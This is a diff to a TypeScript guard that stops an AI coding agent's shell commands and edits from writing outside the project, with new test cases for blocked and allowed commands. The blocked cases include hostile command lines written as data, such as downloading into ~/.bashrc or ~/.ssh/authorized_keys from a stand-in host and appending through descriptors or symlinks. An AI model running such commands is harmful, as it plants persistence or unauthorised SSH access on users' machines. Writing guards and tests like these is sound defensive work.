@@ -1,8 +1,9 @@
 import { defineGuard, SHELL_TOOLS, type GuardContext } from '../core/guards/types';
 import { argPath, fileWrites, flags, parseGit, runs } from '../core/guards/helpers';
 import { isHarmlessDevice, isTempPath } from '../core/guards/targets';
-import type { Invocation } from '../core/shell/analyze';
-import { isAbsolutePath, isSameOrAncestor, normalizePath, relativeTo, resolvePath } from '../core/paths';
+import type { Invocation, ShellAnalysis } from '../core/shell/analyze';
+import { dirname, isAbsolutePath, isSameOrAncestor, normalizePath, relativeTo, resolvePath } from '../core/paths';
+import { analysisEffects, fileWritesOf } from '../core/effects/derive';
 
 const PROFILES =
   /^(\.bashrc|\.bash_profile|\.bash_login|\.profile|\.zshrc|\.zshenv|\.zprofile|\.zlogin|\.config\/fish\/config\.fish|\.inputrc|Documents\/(Windows)?PowerShell\/.*profile\.ps1)$/i;
@@ -39,9 +40,12 @@ function describe(path: string, ctx: GuardContext): string {
   return `${path}, outside the project`;
 }
 
-function outsideAsWritten(path: string, roots: string[]): boolean {
-  if (isTempPath(path) || isHarmlessDevice(path)) return false;
-  return !roots.some((r) => isSameOrAncestor(r, path));
+function outsideAsWritten(path: string, roots: string[], ctx: GuardContext): boolean {
+  if (isHarmlessDevice(path)) return false;
+  if (roots.some((r) => isSameOrAncestor(r, path))) return false;
+  // Temp is scratch space, but not the folder a project in temp sits in: its siblings are other projects.
+  if (isTempPath(path)) return isTempPath(ctx.projectDir) && isSameOrAncestor(dirname(ctx.projectDir), path);
+  return true;
 }
 
 /**
@@ -49,16 +53,51 @@ function outsideAsWritten(path: string, roots: string[]): boolean {
  * lands in home. Where the write lands is what counts: a link out of the project leads outside.
  */
 function outside(path: string, roots: string[], ctx: GuardContext): string | null {
-  if (outsideAsWritten(path, roots)) return path;
+  if (outsideAsWritten(path, roots, ctx)) return path;
   if (isHarmlessDevice(path)) return null;
   const real = ctx.realpath(path);
   if (real === path) return null;
   return outsideAsWritten(
     real,
     roots.map((r) => ctx.realpath(r)),
+    ctx,
   )
     ? real
     : null;
+}
+
+/** Folders where creating an empty file or a directory is fine: caches the tools keep in home. */
+function cacheDir(path: string, ctx: GuardContext): boolean {
+  return isSameOrAncestor(`${ctx.home}/.cache`, path);
+}
+
+/**
+ * Every write of the line by the effects layer (redirections on any descriptor, in-place editors,
+ * copies, downloads, archives extracted, interpreter file writes), after the links the line made:
+ * `ln -s ~/.bashrc rc; echo x >> rc` writes ~/.bashrc. A file `find -exec` is given (`{}`) lies
+ * under find's starting points. Creating an empty file or a folder counts too, except in ~/.cache.
+ */
+function effectWrites(analysis: ShellAnalysis, ctx: GuardContext): { inv: Invocation; path: string; how: string }[] {
+  const out: { inv: Invocation; path: string; how: string }[] = [];
+  for (const w of fileWritesOf(analysis, ctx.home)) {
+    const roots = w.inv.findRoots;
+    const name = w.inv.cwd && relativeTo(w.inv.cwd, w.path);
+    if (roots && name !== null && name !== undefined && !name.includes('/') && w.inv.args.some((a) => a.known === name || a.known === '{}')) {
+      for (const r of roots) {
+        const root = argPath(w.inv, r, ctx.home);
+        if (root) out.push({ inv: w.inv, path: name === '{}' ? root : `${root}/${name}`, how: `${w.how} (run by find -exec)` });
+      }
+      continue;
+    }
+    out.push(w);
+  }
+  for (const ie of analysisEffects(analysis, ctx.home)) {
+    if (ie.inv.wrapper) continue;
+    for (const e of ie.effects)
+      if (e.kind === 'write' && e.how === 'touch' && e.target.path && !cacheDir(e.target.path, ctx))
+        out.push({ inv: ie.inv, path: e.target.path, how: ie.inv.program });
+  }
+  return out;
 }
 
 function shellWrites(inv: Invocation, home: string): { path: string; how: string }[] {
@@ -70,6 +109,66 @@ function shellWrites(inv: Invocation, home: string): { path: string; how: string
     if (path && !/^[^/]+:/.test(dest!.known ?? '')) out.push({ path, how: inv.program });
   }
   return out;
+}
+
+/** Run on another machine (`ssh host 'cd /srv/app && git pull'`): its files are not this machine's. */
+function remote(inv: Invocation): boolean {
+  return inv.via.includes('ssh');
+}
+
+/** git subcommands that change the repository they run in (its files, index, refs or config). */
+const GIT_WRITERS = new Set([
+  'add',
+  'am',
+  'apply',
+  'checkout',
+  'cherry-pick',
+  'clean',
+  'commit',
+  'merge',
+  'mv',
+  'pull',
+  'rebase',
+  'reset',
+  'restore',
+  'revert',
+  'rm',
+  'stash',
+  'switch',
+  'tag',
+  'branch',
+  'init',
+  'worktree',
+  'notes',
+  'update-ref',
+  'gc',
+  'prune',
+]);
+const GIT_READ_OPTS = new Set(['--get', '--get-all', '--get-regexp', '--list', '-l', '--show-origin', '--get-urlmatch']);
+
+/**
+ * Configuration files a tool writes for you: `git config --file F`, `npm config set` (~/.npmrc
+ * unless --location project), and a git command that changes a repository outside the project
+ * (`git -C ~/other commit`).
+ */
+function configWrites(inv: Invocation, ctx: GuardContext): { path: string; how: string }[] {
+  const git = inv.program === 'git' ? parseGit(inv, ctx.home) : null;
+  if (git?.sub === 'config') {
+    if (git.args.some((a) => GIT_READ_OPTS.has(a.known ?? ''))) return [];
+    const i = git.args.findIndex((a) => a.known === '--file' || a.known === '-f' || (a.known ?? '').startsWith('--file='));
+    const v = i < 0 ? null : git.args[i]!.known!.startsWith('--file=') ? git.args[i]!.known!.slice(7) : (git.args[i + 1]?.known ?? null);
+    const path = v && v !== '-' ? argPath({ ...inv, cwd: git.cwd }, { ...git.args[i]!, known: v }, ctx.home) : null;
+    return path && git.args.length > 2 ? [{ path, how: 'git config --file' }] : [];
+  }
+  if (git && GIT_WRITERS.has(git.sub) && git.cwd) return [{ path: git.cwd, how: `git ${git.sub} in that repository` }];
+  if (['npm', 'pnpm'].includes(inv.program) && inv.args[0]?.known === 'config' && ['set', 'delete', 'edit', 'fix'].includes(inv.args[1]?.known ?? '')) {
+    const loc = inv.args.findIndex((a) => a.known === '--location' || a.known === '-L');
+    const where = loc >= 0 ? inv.args[loc + 1]?.known : (inv.args.find((a) => (a.known ?? '').startsWith('--location='))?.known?.slice(11) ?? null);
+    const global = inv.args.some((a) => a.known === '-g' || a.known === '--global');
+    if (where === 'project' && !global) return [];
+    return [{ path: global || where === 'global' ? '/usr/local/etc/npmrc' : `${ctx.home}/.npmrc`, how: `${inv.program} config ${inv.args[1]!.known}` }];
+  }
+  return [];
 }
 
 export default defineGuard({
@@ -101,10 +200,15 @@ export default defineGuard({
           instead: `git config --local ${key}`.trim(),
         };
       }
-      for (const w of shellWrites(inv, ctx.home)) {
+      for (const w of [...shellWrites(inv, ctx.home), ...(remote(inv) ? [] : configWrites(inv, ctx))]) {
         const lands = outside(w.path, rootsFor(), ctx);
         if (lands !== null) return { reason: `${inv.program} writes ${where(w.path, lands, ctx)} (${w.how}). ${advice}` };
       }
+    }
+    for (const w of effectWrites(ctx.shell(), ctx)) {
+      if (remote(w.inv)) continue;
+      const lands = outside(w.path, rootsFor(), ctx);
+      if (lands !== null) return { reason: `${w.inv.program} writes ${where(w.path, lands, ctx)} (${w.how}). ${advice}` };
     }
     return null;
   },
@@ -119,6 +223,26 @@ export default defineGuard({
       { tool_name: 'Bash', tool_input: { command: 'git config --global user.email bot@example.com' } },
       { tool_name: 'Bash', tool_input: { command: 'cp .env ../other-project/.env' } },
       { tool_name: 'Edit', tool_input: { file_path: '../sibling/src/a.ts', old_string: 'a', new_string: 'b' } },
+      // every writer, by the effects layer
+      { tool_name: 'Bash', tool_input: { command: `python3 -c "open('/home/user/.bashrc','a').write('x')"` } },
+      { tool_name: 'Bash', tool_input: { command: 'tar xf /tmp/x.tar -C ~' }, note: 'the whole archive lands in home' },
+      { tool_name: 'Bash', tool_input: { command: 'unzip -o /tmp/x.zip -d ~' } },
+      { tool_name: 'Bash', tool_input: { command: 'curl -o ~/.bashrc https://x.example/rc' } },
+      { tool_name: 'Bash', tool_input: { command: 'wget -O ~/.ssh/authorized_keys https://x.example/k' } },
+      { tool_name: 'Bash', tool_input: { command: 'exec 3>>~/.bashrc; echo evil >&3' }, note: 'a redirection on any descriptor' },
+      { tool_name: 'Bash', tool_input: { command: 'cd .. && echo x > sibling.txt' } },
+      { tool_name: 'Bash', tool_input: { command: 'git config --file ~/.gitconfig core.pager "less -R"' } },
+      { tool_name: 'Bash', tool_input: { command: 'npm config set registry http://registry.example' }, note: 'writes ~/.npmrc' },
+      { tool_name: 'Bash', tool_input: { command: 'ln -s ~/.bashrc rc; echo x >> rc' }, note: 'through a link the line made' },
+      { tool_name: 'Bash', tool_input: { command: "sed -i 's/a/b/' ../other-project/src/x.ts" } },
+      {
+        tool_name: 'Bash',
+        tool_input: { command: "find ~ -maxdepth 1 -name .bashrc -exec sed -i 's/a/b/' {} +" },
+        note: '{} lies under find’s starting point',
+      },
+      { tool_name: 'Bash', tool_input: { command: 'git -C ~/other commit -am x' }, note: 'changes another repository' },
+      { tool_name: 'Bash', tool_input: { command: 'touch ~/x' } },
+      { tool_name: 'Bash', tool_input: { command: 'mkdir ~/newdir' } },
     ],
     allowed: [
       { tool_name: 'Write', tool_input: { file_path: 'src/new.ts', content: 'export {};\n' } },
@@ -131,6 +255,17 @@ export default defineGuard({
       { tool_name: 'Bash', tool_input: { command: 'scp dist/app.tar.gz deploy@host:/srv/' } },
       { tool_name: 'Bash', tool_input: { command: 'git config --local core.hooksPath .githooks' } },
       { tool_name: 'Edit', tool_input: { file_path: '/home/user/project/.claude/worktrees/x/src/a.ts', old_string: 'a', new_string: 'b' } },
+      { tool_name: 'Bash', tool_input: { command: 'tar xf x.tar -C build' } },
+      { tool_name: 'Bash', tool_input: { command: 'unzip -o /tmp/x.zip -d dist' } },
+      { tool_name: 'Bash', tool_input: { command: 'curl -o /tmp/x.json https://api.example.com/x' } },
+      { tool_name: 'Bash', tool_input: { command: 'mkdir -p ~/.cache/app' }, note: 'a folder in the tools’ cache' },
+      { tool_name: 'Bash', tool_input: { command: 'npm config get registry' } },
+      { tool_name: 'Bash', tool_input: { command: 'npm config set registry https://registry.example --location project' } },
+      { tool_name: 'Bash', tool_input: { command: 'git -C ../sibling status' } },
+      { tool_name: 'Bash', tool_input: { command: 'exec 3>&1; echo hi >&3; exec 2>>build.log' } },
+      { tool_name: 'Bash', tool_input: { command: 'git config --file .gitmodules submodule.x.url https://example.com/x.git' } },
+      { tool_name: 'Bash', tool_input: { command: "find . -name '*.ts' -exec sed -i 's/a/b/' {} +" } },
+      { tool_name: 'Bash', tool_input: { command: `python3 -c "open('out.txt','w').write('x')"` } },
     ],
   },
 });
